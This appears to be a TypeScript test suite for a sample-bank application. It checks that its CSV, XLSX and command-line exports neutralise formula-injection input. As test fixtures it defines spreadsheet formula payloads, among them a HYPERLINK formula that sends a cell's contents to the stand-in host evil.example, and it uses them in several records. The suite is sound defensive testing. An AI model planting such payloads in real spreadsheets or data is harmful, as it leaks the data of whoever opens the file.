/**
 * Formula injection through exports. Text people typed (a sample attribute, an
 * identifier, a kind, a donor's collection site, a body site, an institution's
 * name, a research direction) that starts like a formula comes out of every
 * CSV with a single quote in front (OWASP), and out of every XLSX as a string
 * cell exactly as typed, never as a formula. Figures the product formats stay
 * plain numbers, a storage temperature of -80 included.
 */
import { execFile } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { json, buildWorld, newApplicant, openCall, submitApplication } from '../src/features/calls/calls.testkit.js';
import { insertCollection } from '../src/features/inventory/import/import.testkit.js';
import { addDonor, addSpecimen, seedBank } from '../src/features/pathology/pathology.testkit.js';
import { openEntry, readEntries } from '../src/platform/xlsx/zip.js';
import { signIn, type SignedIn } from './factories.js';
import { createTestServer, engine, type TestServer } from './harness.js';

const root = path.resolve(import.meta.dirname, '..');

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"x")';
/** One of each way a cell can start a formula. */
const HOSTILE = { note: HYPERLINK, plus: '+1+1', minus: '-2+3', at: '@SUM(A1)', tab: '\t=1+1', cr: '\r=2+2' };

/** What a spreadsheet would run: = + - @ first (after spaces), or a tab or line break first. */
const FORMULA = /^(?:\s*[=+\-@]|[\t\r\n])/;
const PLAIN_NUMBER = /^-?\d+(?:\.\d+)?$/;

/** Parses a CSV and checks that no cell would run, except plain numbers in the given columns; returns the records. */
function neutralCsv(body: string, numeric: string[] = []): Array<Record<string, string>> {
  const [header, ...rows] = parse(body, { relax_column_count: true }) as string[][];
  for (const row of [header!, ...rows]) {
    row.forEach((cell, i) => {
      if (!FORMULA.test(cell)) return;
      expect(numeric.includes(header![i]!) && PLAIN_NUMBER.test(cell), `column ${header![i]}: ${JSON.stringify(cell)} would run as a formula`).toBe(true);
    });
  }
  return rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i] ?? ''])));
}

/** Reads an XLSX back: no <f> element anywhere in the sheet, every cell a string; returns the records. */
async function stringCells(data: Buffer): Promise<Array<Record<string, string>>> {
  const file = path.join(os.tmpdir(), `sb-injection-${crypto.randomUUID()}.xlsx`);
  fs.writeFileSync(file, data);
  try {
    for (const entry of (await readEntries(file)).filter((e) => e.name.startsWith('xl/worksheets/'))) {
      let xml = '';
      for await (const chunk of await openEntry(file, entry)) xml += String(chunk);
      expect(xml, entry.name).not.toMatch(/<(?:\w+:)?f[\s>/]/);
    }
  } finally {
    fs.rmSync(file, { force: true });
  }
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(data as unknown as ArrayBuffer);
  const table: string[][] = [];
  workbook.worksheets[0]!.eachRow((row) => {
    const cells: string[] = [];
    row.eachCell({ includeEmpty: true }, (cell, column) => {
      expect(cell.formula, cell.address).toBeFalsy();
      expect([ExcelJS.ValueType.String, ExcelJS.ValueType.Null], `${cell.address} ${JSON.stringify(cell.value)}`).toContain(cell.type);
      cells[column - 1] = cell.value === null ? '' : String(cell.value);
    });
    table.push(cells);
  });
  const [header, ...rows] = table;
  return rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i] ?? ''])));
}

/** XML turns a carriage return into a line feed; everything else comes back exactly. */
const asXml = (text: string): string => text.replace(/\r/g, '\n');

function cli(env: Record<string, string>, args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile(
      process.execPath,
      ['bin/samplebank.js', ...args],
      { cwd: root, env: { ...process.env, SAMPLEBANK_DEMO: '0', LOG_LEVEL: 'warn', SAMPLEBANK_ADMIN_EMAIL: '', SAMPLEBANK_ADMIN_PASSWORD: '', DATABASE_URL: '', DATA_DIR: '', ...env }, maxBuffer: 64 * 1024 * 1024 },
      (error, stdout, stderr) => resolve({ code: error ? Number((error as { code?: number }).code ?? 1) : 0, stdout, stderr }),
    );
  });
}

describe(`formula injection through every export on ${engine}`, () => {
  const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'sb-injection-'));
  let server: TestServer;
  let open = false;
  let curator: SignedIn;
  let collection: { id: string; code: string };
  const identifier = `-2+3-${crypto.randomBytes(3).toString('hex')}`;
  beforeAll(async () => {
    // On PGlite the CLI needs the database in a folder (it runs in another process, once the server has closed it).
    server = await createTestServer(engine === 'pglite' ? { dataDir: path.join(tmp, 'data') } : {});
    open = true;
    curator = await signIn(server.app, server.context, ['curator']);
    collection = await insertCollection(server.context, { unit: 'g', scale: 4 });
    json(
      await server.app.inject({
        method: 'POST',
        url: '/api/v1/samples',
        headers: curator.headers,
        payload: { collectionId: collection.id, kind: '@SUM(A1)', quantity: '2.5', identifier, attributes: { ...HOSTILE, '=HEADER()': 'plain' } },
      }),
      201,
    );
  }, 180_000);
  afterAll(async () => {
    if (open) await server.close();
    fs.rmSync(tmp, { recursive: true, force: true });
  });

  const get = (who: SignedIn, url: string) => server.app.inject({ method: 'GET', url, headers: who.headers });

  const expectSampleCsv = (body: string) => {
    const [sample] = neutralCsv(body, ['quantity']);
    expect(sample).toMatchObject({ identifier: `'${identifier}`, kind: "'@SUM(A1)", quantity: '2.5000' });
    for (const [key, value] of Object.entries(HOSTILE)) expect(sample![key], key).toBe(`'${value}`);
    expect(sample!["'=HEADER()"]).toBe('plain');
  };

  it('sample export, CSV: every hostile cell and header starts with a quote; the quantity stays a number', async () => {
    const response = await get(curator, `/api/v1/samples/export?collectionId=${collection.id}&format=csv`);
    expect(response.statusCode).toBe(200);
    expectSampleCsv(response.body);
  });

  it('sample export, XLSX: string cells exactly as typed, no formula', async () => {
    const response = await get(curator, `/api/v1/samples/export?collectionId=${collection.id}&format=xlsx`);
    expect(response.statusCode).toBe(200);
    const [sample] = await stringCells(response.rawPayload);
    expect(sample).toMatchObject({ identifier, kind: '@SUM(A1)', quantity: '2.5000', '=HEADER()': 'plain' });
    for (const [key, value] of Object.entries(HOSTILE)) expect(sample![key], key).toBe(asXml(value));
  });

  it('donor and specimen exports, CSV and XLSX: typed text neutralised, -80 °C still a number', async () => {
    const bank = await seedBank(server.app, server.context);
    const donor = await addDonor(server.app, bank, { collectionSite: HYPERLINK, consent: { scope: ['genetic-analysis'], givenOn: '2020-02-10', formVersion: '+1+1' } });
    await addSpecimen(server.app, bank, donor.id, { identifier: `@SUM(A1)-${crypto.randomBytes(3).toString('hex')}`, bodySite: '-2+3', storageTemperatureC: -80 });

    const donors = neutralCsv((await get(bank.curator, `/api/v1/donors/export?collectionId=${bank.collectionId}&format=csv`)).body, ['specimens']);
    expect(donors).toEqual([expect.objectContaining({ donor_code: donor.code, collection_site: `'${HYPERLINK}`, consent_form_version: "'+1+1", specimens: '1' })]);
    const donorsXlsx = await stringCells((await get(bank.curator, `/api/v1/donors/export?collectionId=${bank.collectionId}&format=xlsx`)).rawPayload);
    expect(donorsXlsx).toEqual([expect.objectContaining({ collection_site: HYPERLINK, consent_form_version: '+1+1' })]);

    const numeric = ['quantity', 'cold_ischaemia_minutes', 'storage_temperature_c', 'biosafety_level'];
    const specimens = neutralCsv((await get(bank.curator, `/api/v1/collections/${bank.collectionId}/specimens/export?format=csv`)).body, numeric);
    expect(specimens).toHaveLength(1);
    expect(specimens[0]).toMatchObject({ body_site: "'-2+3", storage_temperature_c: '-80', quantity: '10' });
    expect(specimens[0]!.identifier).toMatch(/^'@SUM\(A1\)-/);
    const specimensXlsx = await stringCells((await get(bank.curator, `/api/v1/collections/${bank.collectionId}/specimens/export?format=xlsx`)).rawPayload);
    expect(specimensXlsx[0]).toMatchObject({ body_site: '-2+3', storage_temperature_c: '-80' });
    expect(specimensXlsx[0]!.identifier).toMatch(/^@SUM\(A1\)-/);
  });

  it('call statistics CSV: institution names and research directions neutralised, counts plain', async () => {
    const world = await buildWorld(server.app, server.context, { reviewers: 2 });
    const admin = await signIn(server.app, server.context, ['admin']);
    const institution = json<{ id: string; code: string; name: string }>(
      await server.app.inject({ method: 'POST', url: '/api/v1/institutions', headers: admin.headers, payload: { code: `EVIL${crypto.randomBytes(3).toString('hex')}`, name: HYPERLINK } }),
      201,
    );
    const call = await openCall(server.app, world, { researchDirections: ['@SUM(A1)', '-2+3'] });
    const applicant = await newApplicant(server.app, server.context, institution);
    await submitApplication(server.app, applicant, call, { researchDirection: '@SUM(A1)' });
    await submitApplication(server.app, await newApplicant(server.app, server.context, institution), call, { researchDirection: '-2+3' });
    const response = await get(world.chair, `/api/v1/calls/${call}/statistics.csv`);
    expect(response.statusCode).toBe(200);
    const rows = neutralCsv(response.body, ['applications', 'approved']);
    expect(rows).toContainEqual({ section: 'direction', key: "'@SUM(A1)", name: '', applications: '1', approved: '0' });
    expect(rows).toContainEqual({ section: 'direction', key: "'-2+3", name: '', applications: '1', approved: '0' });
    expect(rows).toContainEqual({ section: 'institution', key: institution.code, name: `'${HYPERLINK}`, applications: '2', approved: '0' });
  });

  it('samplebank export (the CLI), CSV to standard output and XLSX to a file: the same', async () => {
    let env: Record<string, string>;
    if (engine === 'pglite') {
      await server.close();
      open = false;
      env = { DATA_DIR: path.join(tmp, 'data') };
    } else {
      env = { DATABASE_URL: server.context.config.databaseUrl! };
    }
    const csv = await cli(env, ['export', '--collection', collection.code]);
    expect(csv.stderr).toBe('');
    expect(csv.code).toBe(0);
    expectSampleCsv(csv.stdout);
    const file = path.join(tmp, 'samples.xlsx');
    expect((await cli(env, ['export', '--collection', collection.code, '--out', file])).code).toBe(0);
    const [sample] = await stringCells(fs.readFileSync(file));
    for (const [key, value] of Object.entries(HOSTILE)) expect(sample![key], key).toBe(asXml(value));
  }, 120_000);
});
